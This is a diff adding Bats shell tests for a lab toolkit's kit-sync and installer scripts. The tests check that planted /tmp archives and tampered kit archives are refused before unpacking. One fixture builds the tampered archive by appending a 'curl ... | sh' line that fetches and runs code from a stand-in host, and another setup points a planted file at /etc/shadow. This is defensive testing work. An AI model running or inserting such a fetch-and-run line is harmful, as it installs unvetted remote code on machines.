@@ -88,3 +88,96 @@ remote_fn() {
   assert_equal "$(cat "$HOSTS/cli0/etc/hosts")" "127.0.0.1 localhost
 192.0.2.7 printer"
 }
+
+@test "lab-up's kit sync on hosts where another user planted /tmp/pfslab-kit-sync.tar.gz: not used, not a failure, the kit installed and checked" {
+  plant mon0
+  plant cli0
+  shadow=$(cat "$HOSTS/mon0/etc/shadow")
+  # What the kit does not carry (an earlier toolchain's prefix) stays.
+  mkdir -p "$HOSTS/cli0/opt/pfslab/.venv"
+  : >"$HOSTS/cli0/opt/pfslab/.venv/kept"
+  remote_fn remote_kit_sync hosts-lab
+  assert_success
+  want=$(cd "$KIT" && bash -c 'source scripts/lib/common.sh; source scripts/lib/images.sh; image_digest')
+  assert_line "[remote] every node of lab hosts-lab runs this checkout's kit (${want:0:12})"
+  for n in mon0 cli0; do
+    h=$HOSTS/$n
+    assert_equal "$(sha256sum <"$h/opt/pfslab/.pfslab-manifest" | cut -d' ' -f1)" "$want"
+    cmp "$h/opt/pfslab/scripts/lib/login.sh" "$KIT/scripts/lib/login.sh"
+    assert_equal "$(cat "$h/etc/shadow")" "$shadow"
+    assert_equal "$(readlink "$h/tmp/pfslab-kit-sync.tar.gz")" /etc/shadow
+    # The private folder and the staging folder are gone.
+    assert_equal "$(ls -A "$h/tmp")" "pfslab-hosts
+pfslab-kit-sync.tar.gz"
+    assert_equal "$(ls -A "$h/opt")" pfslab
+  done
+  [ -e "$HOSTS/cli0/opt/pfslab/.venv/kept" ]
+  # The archive's sha256 went on the command line, apart from the archive.
+  sum=$(calls ssh | grep -o "bash -s sync $want [0-9a-f]*" | sort -u | awk '{print $5}')
+  [[ $sum =~ ^[0-9a-f]{64}$ ]]
+}
+
+# install-kit.sh sync against a scratch kit folder: a genuine archive, and one whose
+# scripts were changed after the kit's machine made it (the genuine manifest inside).
+kit_archives() {
+  (cd "$KIT" && bash -c 'source scripts/lib/common.sh; source scripts/lib/images.sh; kit_archive "$0"; image_digest >"$0.digest"' "$BATS_TEST_TMPDIR/kit.tar.gz")
+  DIGEST=$(cat "$BATS_TEST_TMPDIR/kit.tar.gz.digest")
+  SUM=$(sha256sum <"$BATS_TEST_TMPDIR/kit.tar.gz" | cut -d' ' -f1)
+  mkdir -p "$BATS_TEST_TMPDIR/t"
+  tar -xzf "$BATS_TEST_TMPDIR/kit.tar.gz" -C "$BATS_TEST_TMPDIR/t"
+  echo 'curl -s http://192.0.2.66/x | sh' >>"$BATS_TEST_TMPDIR/t/scripts/roles/common"
+  tar -C "$BATS_TEST_TMPDIR/t" -czf "$BATS_TEST_TMPDIR/tampered.tar.gz" .
+  TSUM=$(sha256sum <"$BATS_TEST_TMPDIR/tampered.tar.gz" | cut -d' ' -f1)
+  KITDIR=$BATS_TEST_TMPDIR/opt/pfslab
+  mkdir -p "$KITDIR/scripts/roles"
+  echo old >"$KITDIR/scripts/roles/common"
+}
+
+install_kit() {
+  local archive=$1
+  shift
+  cp "$archive" "$BATS_TEST_TMPDIR/sent.tar.gz"
+  run env PFSLAB_KIT_ARCHIVE="$BATS_TEST_TMPDIR/sent.tar.gz" KIT="$KITDIR" bash "$KIT/packer/scripts/install-kit.sh" sync "$@"
+}
+
+@test "install-kit.sh sync refuses a tampered archive before it unpacks anything; the kit stays as it was" {
+  kit_archives
+  install_kit "$BATS_TEST_TMPDIR/tampered.tar.gz" "$DIGEST" "$SUM"
+  assert_failure 2
+  assert_output "install-kit: $BATS_TEST_TMPDIR/sent.tar.gz hashes to $TSUM, not $SUM (the sha256 the kit's machine sent): refused, nothing unpacked"
+  assert_equal "$(cat "$KITDIR/scripts/roles/common")" old
+  assert_equal "$(find "$BATS_TEST_TMPDIR/opt" -mindepth 1 | LC_ALL=C sort | tr '\n' ' ')" \
+    "$BATS_TEST_TMPDIR/opt/pfslab $KITDIR/scripts $KITDIR/scripts/roles $KITDIR/scripts/roles/common "
+  # Without the archive's sha256 nothing is unpacked either.
+  install_kit "$BATS_TEST_TMPDIR/kit.tar.gz" "$DIGEST"
+  assert_failure 2
+  assert_output "install-kit: usage: install-kit.sh sync DIGEST ARCHIVE_SHA256 (each 64 hex digits)"
+  assert_equal "$(cat "$KITDIR/scripts/roles/common")" old
+}
+
+@test "install-kit.sh sync: a staged kit that fails its manifest or holds unlisted files is never moved in; a genuine one is" {
+  kit_archives
+  # The archive is what was sent (its sha256 matches), but its files are not the manifest's.
+  install_kit "$BATS_TEST_TMPDIR/tampered.tar.gz" "$DIGEST" "$TSUM"
+  assert_failure 2
+  assert_line --regexp "^install-kit: files under $BATS_TEST_TMPDIR/opt/\\.pfslab-stage\\.[A-Za-z0-9]{6} differ from the manifest \\(listed above\\)$"
+  assert_line --regexp "scripts/roles/common: FAILED$"
+  assert_equal "$(cat "$KITDIR/scripts/roles/common")" old
+  [ -z "$(find "$BATS_TEST_TMPDIR/opt" -maxdepth 1 -name '.pfslab-stage.*')" ]
+  # A file the manifest does not list.
+  tar -xzf "$BATS_TEST_TMPDIR/kit.tar.gz" -C "$BATS_TEST_TMPDIR/t"
+  echo 'echo extra' >"$BATS_TEST_TMPDIR/t/scripts/extra"
+  tar -C "$BATS_TEST_TMPDIR/t" -czf "$BATS_TEST_TMPDIR/extra.tar.gz" .
+  install_kit "$BATS_TEST_TMPDIR/extra.tar.gz" "$DIGEST" "$(sha256sum <"$BATS_TEST_TMPDIR/extra.tar.gz" | cut -d' ' -f1)"
+  assert_failure 2
+  assert_output "install-kit: the kit archive holds files its manifest does not list (scripts/extra); refused"
+  [ ! -e "$KITDIR/scripts/extra" ]
+  assert_equal "$(cat "$KITDIR/scripts/roles/common")" old
+  # The genuine archive: moved in, checked.
+  install_kit "$BATS_TEST_TMPDIR/kit.tar.gz" "$DIGEST" "$SUM"
+  assert_success
+  assert_output --regexp "^install-kit: [0-9]+ kit files at $KITDIR match digest $DIGEST$"
+  cmp "$KITDIR/scripts/roles/common" "$KIT/scripts/roles/common"
+  [ -z "$(find "$BATS_TEST_TMPDIR/opt" -maxdepth 1 -name '.pfslab-stage.*')" ]
+  [ ! -e "$BATS_TEST_TMPDIR/sent.tar.gz" ]
+}
